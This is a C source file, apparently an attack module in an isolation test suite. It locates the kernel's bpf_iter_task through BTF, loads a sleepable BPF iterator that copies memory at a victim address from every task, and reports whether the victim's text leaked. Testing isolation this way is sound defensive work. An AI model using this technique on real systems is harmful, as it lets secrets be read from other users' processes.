// SPDX-License-Identifier: Apache-2.0
// Read its memory by a BPF iterator: a program that the kernel calls for each task, in nobody's context.
#include <errno.h>
#include <fcntl.h>
#include <linux/btf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "insn.h"
#include "row.h"

// Newer than some headers that this is built with.
#define COPY_FROM_USER_TASK 191

// ---- the kernel's own name for what is iterated over ----

static char *read_all(const char *path, size_t *ret_len)
{
    size_t room = (size_t)16 << 20;
    char *data = malloc(room);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n = 1;
    *ret_len = 0;
    while (data != NULL && fd >= 0 && *ret_len < room && n > 0) {
        n = read(fd, data + *ret_len, room - *ret_len);
        *ret_len += n > 0 ? (size_t)n : 0;
    }
    if (fd >= 0) {
        close(fd);
    }
    return data;
}

// Bytes behind a type's head.
static size_t tail_of(const struct btf_type *type)
{
    size_t n = BTF_INFO_VLEN(type->info);
    switch (BTF_INFO_KIND(type->info)) {
    case BTF_KIND_INT:
    case BTF_KIND_VAR:
    case 17: // a tag of a declaration
        return 4;
    case BTF_KIND_ARRAY:
        return sizeof(struct btf_array);
    case BTF_KIND_STRUCT:
    case BTF_KIND_UNION:
        return n * sizeof(struct btf_member);
    case BTF_KIND_ENUM:
        return n * sizeof(struct btf_enum);
    case BTF_KIND_FUNC_PROTO:
        return n * sizeof(struct btf_param);
    case BTF_KIND_DATASEC:
        return n * sizeof(struct btf_var_secinfo);
    case 19: // an enumeration of 64 bits
        return n * 12;
    default:
        return 0;
    }
}

// The number of the function of this name; 0: there is none.
static unsigned find_function(const char *name)
{
    size_t len;
    unsigned found = 0;
    char *data = read_all("/sys/kernel/btf/vmlinux", &len);
    const struct btf_header *head = (const void *)data;
    if (data == NULL || len < sizeof(*head) || head->magic != BTF_MAGIC) {
        free(data);
        return 0;
    }
    const char *at = data + head->hdr_len + head->type_off;
    const char *end = at + head->type_len;
    const char *names = data + head->hdr_len + head->str_off;
    for (unsigned id = 1; at < end && found == 0; id++) {
        const struct btf_type *type = (const void *)at;
        bool function = BTF_INFO_KIND(type->info) == BTF_KIND_FUNC;
        found = function && strcmp(names + type->name_off, name) == 0 ? id : 0;
        at += sizeof(*type) + tail_of(type);
    }
    free(data);
    return found;
}

// ---- the program ----

// For each task that has something at the address: writes it out.
static long load(const struct row_victim *victim, unsigned function)
{
    struct bpf_insn program[] = {
        COPY(BPF_REG_6, BPF_REG_1),
        LOAD(BPF_REG_4, BPF_REG_6, 8), // the task; after the last one none
        SKIP_IF(BPF_JEQ, BPF_REG_4, 0, 15),
        COPY(BPF_REG_1, BPF_REG_10),
        ADD(BPF_REG_1, -32),
        SET(BPF_REG_2, 32),
        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_3, 0, 0, (unsigned)victim->address),
        INSN(0, 0, 0, 0, victim->address >> 32),
        SET(BPF_REG_5, 0),
        CALL(COPY_FROM_USER_TASK),
        SKIP_IF(BPF_JNE, BPF_REG_0, 0, 7),
        LOAD(BPF_REG_1, BPF_REG_6, 0),
        LOAD(BPF_REG_1, BPF_REG_1, 0), // where it is read from
        COPY(BPF_REG_2, BPF_REG_10),
        ADD(BPF_REG_2, -32),
        SET(BPF_REG_3, 32),
        CALL(BPF_FUNC_seq_write),
        INSN(BPF_JMP | BPF_JA, 0, 0, 0, 0),
        SET(BPF_REG_0, 0),
        END,
    };
    union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_TRACING,
                           .expected_attach_type = BPF_TRACE_ITER,
                           .attach_btf_id = function,
                           .prog_flags = BPF_F_SLEEPABLE,
                           .insns = (unsigned long)program,
                           .insn_cnt = sizeof(program) / sizeof(program[0]),
                           .license = (unsigned long)"GPL"};
    return row_bpf(BPF_PROG_LOAD, &attr);
}

static bool finds_text(int iterator)
{
    char text[32];
    while (read(iterator, text, sizeof(text)) == (ssize_t)sizeof(text)) {
        if (row_is_text(text, sizeof(text))) {
            return true;
        }
    }
    return false;
}

enum row_result row_attack(const struct row_victim *victim)
{
    unsigned function = find_function("bpf_iter_task");
    if (function == 0) {
        return ROW_ABSENT;
    }
    long program = load(victim, function);
    if (program < 0) {
        // Before 5.18 such programs cannot read.
        return errno == EINVAL ? ROW_ABSENT : row_from_errno("bpf");
    }
    union bpf_attr link = {
        .link_create = {.prog_fd = (unsigned)program, .attach_type = BPF_TRACE_ITER}};
    long linked = row_bpf(BPF_LINK_CREATE, &link);
    union bpf_attr make = {.iter_create = {.link_fd = (unsigned)linked}};
    long iterator = linked >= 0 ? row_bpf(BPF_ITER_CREATE, &make) : -1;
    if (iterator < 0) {
        return row_from_errno("BPF_ITER_CREATE");
    }
    return finds_text((int)iterator) ? ROW_LEAKED : ROW_REFUSED;
}
